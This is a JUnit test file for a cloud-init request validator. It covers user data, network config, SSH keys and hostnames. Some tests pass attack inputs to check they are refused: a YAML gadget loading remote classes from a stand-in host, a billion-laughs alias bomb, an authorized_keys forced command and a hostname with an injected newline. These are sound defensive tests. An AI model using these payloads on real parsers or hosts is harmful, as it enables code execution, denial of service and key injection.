package io.novacron.workflows.cloudinit;

import static io.novacron.workflows.cloudinit.TestKeys.ascii;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.novacron.workflows.FieldError;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CloudInitValidatorTest {

  private static List<FieldError> validate(CloudInit c) {
    return CloudInitValidator.validate(c, "cloudInit");
  }

  private static CloudInit userData(String userData) {
    return new CloudInit(userData, null, null, null);
  }

  private static CloudInit network(String networkConfig) {
    return new CloudInit(null, null, null, networkConfig);
  }

  private static CloudInit keys(String... keys) {
    return new CloudInit(null, Arrays.asList(keys), null, null);
  }

  private static CloudInit hostname(String hostname) {
    return new CloudInit(null, null, hostname, null);
  }

  /** The one error a value yields, for the field named. */
  private static FieldError onlyError(CloudInit c, String field) {
    List<FieldError> errors = validate(c);
    assertThat(errors).extracting(FieldError::field).containsExactly(field);
    return errors.get(0);
  }

  @Test
  void absentIsValid() {
    assertThat(validate(null)).isEmpty();
    assertThat(validate(new CloudInit(null, null, null, null))).isEmpty();
  }

  @Test
  void fullRequestIsValid() {
    CloudInit c = new CloudInit("#cloud-config\npackages: [nginx]\nruncmd:\n  - [touch, /ok]\n",
        List.of(TestKeys.ED25519, TestKeys.RSA), "web-1.example.internal",
        "version: 2\nethernets:\n  eth0:\n    dhcp4: true\n");
    assertThat(validate(c)).isEmpty();
  }

  @Test
  void fieldsAreNamedUnderThePrefix() {
    CloudInit c = new CloudInit("packages: []", List.of(TestKeys.ED25519, TestKeys.RSA, "nope"), "Bad_Host",
        "version: 7");
    assertThat(validate(c)).extracting(FieldError::field).containsExactly(
        "cloudInit.userData", "cloudInit.networkConfig", "cloudInit.sshKeys[2]", "cloudInit.hostname");
    assertThat(CloudInitValidator.validate(c, "")).extracting(FieldError::field).containsExactly(
        "userData", "networkConfig", "sshKeys[2]", "hostname");
  }

  @Nested
  class UserData {
    @Test
    void cloudConfigMappingIsAccepted() {
      assertThat(validate(userData("#cloud-config\nusers:\n  - name: ops\n    sudo: ALL=(ALL) NOPASSWD:ALL\n")))
          .isEmpty();
    }

    @Test
    void headerAloneIsAccepted() {
      assertThat(validate(userData("#cloud-config\n"))).isEmpty();
    }

    @Test
    void scriptIsAcceptedWithoutParsing() {
      // Not YAML at all: a script is passed through as it is.
      assertThat(validate(userData("#!/bin/sh\necho 'a: [b' > /tmp/x\n"))).isEmpty();
    }

    @Test
    void otherFormatsAreRefused() {
      FieldError e = onlyError(userData("packages: [nginx]\n"), "cloudInit.userData");
      assertThat(e.message()).contains("#cloud-config", "#!");
    }

    @Test
    void listIsRefused() {
      FieldError e = onlyError(userData("#cloud-config\n- packages\n"), "cloudInit.userData");
      assertThat(e.message()).contains("mapping", "was a list");
    }

    @Test
    void invalidYamlNamesLineAndColumn() {
      // Line 3 opens a flow sequence that line 4 cannot continue as a mapping key.
      FieldError e = onlyError(userData("#cloud-config\npackages:\n  - [nginx\nruncmd: x\n"),
          "cloudInit.userData");
      assertThat(e.message()).matches("is not valid YAML at line \\d+, column \\d+: .*fix the YAML.*");
      assertThat(e.message()).contains("line 4, column 7");
    }

    @Test
    void badIndentationNamesItsLine() {
      FieldError e = onlyError(userData("#cloud-config\nwrite_files:\n  - path: /a\n   content: b\n"),
          "cloudInit.userData");
      assertThat(e.message()).contains("line 4, column");
    }

    @Test
    void duplicateKeyIsRefusedWithItsLine() {
      FieldError e = onlyError(userData("#cloud-config\npackages: [a]\npackages: [b]\n"),
          "cloudInit.userData");
      assertThat(e.message()).contains("line 3", "duplicate key packages", "keep one of them");
    }

    @Test
    void javaTagsAreNotConstructed() {
      FieldError e = onlyError(userData("#cloud-config\nx: !!javax.script.ScriptEngineManager"
          + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n"),
          "cloudInit.userData");
      assertThat(e.message()).contains("line 2", "Global tag is not allowed");
    }

    @Test
    void billionLaughsIsRefusedQuickly() {
      StringBuilder bomb = new StringBuilder("#cloud-config\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
      for (char level = 'b'; level <= 'i'; level++) {
        char previous = (char) (level - 1);
        bomb.append(level).append(": &").append(level).append(" [");
        bomb.append(String.join(",", Collections.nCopies(9, "*" + previous))).append("]\n");
      }
      List<FieldError> errors = assertTimeoutPreemptively(Duration.ofSeconds(2),
          () -> validate(userData(bomb.toString())));
      assertThat(errors).singleElement().satisfies(e -> {
        assertThat(e.field()).isEqualTo("cloudInit.userData");
        assertThat(e.message()).contains("more than 50 aliases", "alias bomb");
      });
    }

    @Test
    void deepNestingIsRefused() {
      String deep = "#cloud-config\nx: " + "[".repeat(40) + "]".repeat(40) + "\n";
      FieldError e = onlyError(userData(deep), "cloudInit.userData");
      assertThat(e.message()).contains("deeper than 32 levels");
    }

    @Test
    void recursiveKeyIsRefused() {
      FieldError e = onlyError(userData("#cloud-config\n&a [*a]: 1\n"), "cloudInit.userData");
      assertThat(e.message()).contains("contains itself");
    }

    @Test
    void sixtyFourKibIsTheLimit() {
      String header = "#cloud-config\n#";
      String atLimit = header + "x".repeat(CloudInitValidator.MAX_USER_DATA_BYTES - header.length());
      assertThat(validate(userData(atLimit))).isEmpty();
      FieldError e = onlyError(userData(atLimit + "x"), "cloudInit.userData");
      assertThat(e.message()).contains("65537 bytes", "at most 65536 bytes (64 KiB)");
    }

    @Test
    void sizeIsCountedInUtf8Bytes() {
      // 22000 three-byte characters: 66000 bytes, though only 22000 chars.
      FieldError e = onlyError(userData("#cloud-config\n#" + "€".repeat(22_000)), "cloudInit.userData");
      assertThat(e.message()).contains("at most 65536 bytes");
    }
  }

  @Nested
  class NetworkConfig {
    @ParameterizedTest
    @ValueSource(strings = {
        "version: 2\nethernets:\n  eth0:\n    dhcp4: true\n",
        "version: 1\nconfig:\n  - type: physical\n    name: eth0\n    subnets:\n      - type: dhcp\n",
        "network:\n  version: 2\n  ethernets:\n    eth0:\n      dhcp4: true\n"})
    void versionOneAndTwoAreAccepted(String config) {
      assertThat(validate(network(config))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"version: 3\n", "version: '2'\n", "ethernets: {}\n", "network:\n  version: 0\n"})
    void otherVersionsAreRefused(String config) {
      FieldError e = onlyError(network(config), "cloudInit.networkConfig");
      assertThat(e.message()).contains("'version: 1' or 'version: 2'");
    }

    @Test
    void nonMappingIsRefused() {
      FieldError e = onlyError(network("- version: 2\n"), "cloudInit.networkConfig");
      assertThat(e.message()).contains("mapping", "was a list");
    }

    @Test
    void networkKeyMustHoldAMapping() {
      FieldError e = onlyError(network("network: 2\n"), "cloudInit.networkConfig");
      assertThat(e.message()).contains("'network:' must hold");
    }

    @Test
    void invalidYamlNamesLineAndColumn() {
      FieldError e = onlyError(network("version: 2\nethernets:\n  eth0: {dhcp4: true\n"),
          "cloudInit.networkConfig");
      assertThat(e.message()).matches("is not valid YAML at line \\d+, column \\d+: .*");
    }

    @Test
    void sixteenKibIsTheLimit() {
      String config = "version: 2\n#" + "x".repeat(CloudInitValidator.MAX_NETWORK_CONFIG_BYTES);
      FieldError e = onlyError(network(config), "cloudInit.networkConfig");
      assertThat(e.message()).contains("at most 16384 bytes (16 KiB)");
    }
  }

  @Nested
  class SshKeys {
    static List<String> acceptedKeys() {
      byte[] point256 = new byte[65];
      point256[0] = 4;
      return List.of(TestKeys.ED25519, TestKeys.RSA, TestKeys.ECDSA_256, TestKeys.ECDSA_384,
          TestKeys.ECDSA_521,
          TestKeys.line("sk-ssh-ed25519@openssh.com", ascii("sk-ssh-ed25519@openssh.com"), new byte[32],
              ascii("ssh:")),
          TestKeys.line("sk-ecdsa-sha2-nistp256@openssh.com", ascii("sk-ecdsa-sha2-nistp256@openssh.com"),
              ascii("nistp256"), point256, ascii("ssh:")),
          TestKeys.ED25519 + "\n",
          "ssh-ed25519\t" + TestKeys.data(TestKeys.ED25519),
          TestKeys.ED25519 + " comment: with YAML {syntax} # and more");
    }

    @ParameterizedTest
    @MethodSource("acceptedKeys")
    void publicKeysAreAccepted(String key) {
      assertThat(validate(keys(key))).isEmpty();
    }

    @Test
    void privateKeyIsRefusedWithoutEchoingIt() {
      String secret = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ";
      FieldError e = onlyError(keys("-----BEGIN OPENSSH PRIVATE KEY-----\n" + secret
          + "\n-----END OPENSSH PRIVATE KEY-----\n"), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("private key", "send the public key", ".pub");
      assertThat(e.message()).doesNotContain(secret);
    }

    @Test
    void unknownTypeIsRefusedListingTheAcceptedOnes() {
      FieldError e = onlyError(keys("ssh-dss AAAAB3NzaC1kc3MAAACBAP"), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("'ssh-dss' is not an accepted key type", "ssh-ed25519",
          "sk-ecdsa-sha2-nistp256@openssh.com");
    }

    @Test
    void authorizedKeysOptionsAreRefused() {
      FieldError e = onlyError(keys("command=\"/bin/evil\" " + TestKeys.ED25519), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("options");
    }

    @Test
    void typeWithoutDataIsRefused() {
      FieldError e = onlyError(keys("ssh-ed25519"), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("no key data");
    }

    @Test
    void dataThatIsNotBase64IsRefused() {
      FieldError e = onlyError(keys("ssh-ed25519 not*base64! me@host"), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("not base64");
    }

    @Test
    void base64OfSomethingElseIsRefused() {
      String text = Base64.getEncoder().encodeToString(ascii("just some text, not a key"));
      FieldError e = onlyError(keys("ssh-ed25519 " + text), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("does not encode a ssh-ed25519 key");
    }

    @Test
    void dataOfAnotherTypeIsRefused() {
      FieldError e = onlyError(keys("ssh-rsa " + TestKeys.data(TestKeys.ED25519) + " relabelled"),
          "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("does not encode a ssh-rsa key");
    }

    @Test
    void truncatedKeyIsRefused() {
      // The type field intact, the 32-byte key cut to 16 bytes.
      String truncated = TestKeys.line("ssh-ed25519", ascii("ssh-ed25519"), new byte[16]);
      FieldError e = onlyError(keys(truncated), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("not a complete ssh-ed25519 key");
    }

    @Test
    void blobWithBrokenLengthIsRefused() {
      byte[] blob = Base64.getDecoder().decode(TestKeys.data(TestKeys.ED25519));
      String cut = Base64.getEncoder().encodeToString(Arrays.copyOf(blob, blob.length - 5));
      FieldError e = onlyError(keys("ssh-ed25519 " + cut), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("does not encode a ssh-ed25519 key");
    }

    @Test
    void ecdsaKeyOnAnotherCurveIsRefused() {
      byte[] point = new byte[65];
      point[0] = 4;
      String wrongCurve = TestKeys.line("ecdsa-sha2-nistp384", ascii("ecdsa-sha2-nistp384"), ascii("nistp256"),
          point);
      FieldError e = onlyError(keys(wrongCurve), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("not a complete ecdsa-sha2-nistp384 key");
    }

    @Test
    void twoKeysInOneEntryAreRefused() {
      FieldError e = onlyError(keys(TestKeys.ED25519 + "\n" + TestKeys.RSA), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("one line");
    }

    @Test
    void controlCharactersAreRefused() {
      FieldError e = onlyError(keys(TestKeys.ED25519 + " bell\u0007"), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("control characters");
    }

    @Test
    void nullAndBlankEntriesAreRefusedByIndex() {
      List<FieldError> errors = validate(keys(TestKeys.ED25519, null, " "));
      assertThat(errors).extracting(FieldError::field).containsExactly("cloudInit.sshKeys[1]", "cloudInit.sshKeys[2]");
      assertThat(errors.get(0).message()).contains("is empty");
    }

    @Test
    void thirtyTwoKeysIsTheLimit() {
      assertThat(validate(new CloudInit(null, Collections.nCopies(32, TestKeys.ED25519), null, null))).isEmpty();
      FieldError e = onlyError(new CloudInit(null, Collections.nCopies(33, TestKeys.ED25519), null, null),
          "cloudInit.sshKeys");
      assertThat(e.message()).contains("has 33 keys; at most 32");
    }

    @Test
    void sixteenKibPerKeyIsTheLimit() {
      String big = TestKeys.ED25519 + " " + "c".repeat(CloudInitValidator.MAX_SSH_KEY_BYTES);
      FieldError e = onlyError(keys(big), "cloudInit.sshKeys[0]");
      assertThat(e.message()).contains("at most 16384 bytes (16 KiB) per key");
    }
  }

  @Nested
  class Hostname {
    @ParameterizedTest
    @ValueSource(strings = {"web-1", "a", "0day", "web-1.example.internal", "xn--bcher-kva.example"})
    void rfc1123NamesAreAccepted(String name) {
      assertThat(validate(hostname(name))).isEmpty();
    }

    @Test
    void longestLabelAndNameAreAccepted() {
      String label63 = "a".repeat(63);
      assertThat(validate(hostname(label63))).isEmpty();
      // 63 + 1 + 63 + 1 + 63 + 1 + 61 = 253
      String name253 = String.join(".", label63, label63, label63, "b".repeat(61));
      assertThat(name253).hasSize(253);
      assertThat(validate(hostname(name253))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Web-1", "-web", "web-", "web_1", "a..b", "web.", ".web", "web 1", "wéb"})
    void otherNamesAreRefused(String name) {
      FieldError e = onlyError(hostname(name), "cloudInit.hostname");
      assertThat(e.message()).contains("is not an RFC 1123 host name", "1-63 lower-case letters");
    }

    @Test
    void tooLongLabelOrNameIsRefused() {
      assertThat(validate(hostname("a".repeat(64)))).hasSize(1);
      String name255 = String.join(".", "a".repeat(63), "a".repeat(63), "a".repeat(63), "a".repeat(63));
      assertThat(validate(hostname(name255))).hasSize(1);
    }

    @Test
    void injectedLinesAreNotEchoed() {
      FieldError e = onlyError(hostname("web\npublic-keys: [evil]"), "cloudInit.hostname");
      assertThat(e.message()).doesNotContain("\n").contains("'web?public-keys: [evil]'");
    }
  }

  @Test
  void wholeSeedIsLimitedTo256Kib() {
    // 32 valid keys of ~9 KiB each: every one within its own limit, 290 KB together.
    String key = TestKeys.ED25519 + " " + "c".repeat(9000);
    List<String> keys = new ArrayList<>(Collections.nCopies(32, key));
    FieldError e = onlyError(new CloudInit(null, keys, null, null), "cloudInit");
    assertThat(e.message()).contains("at most 262144 bytes (256 KiB)");
  }
}
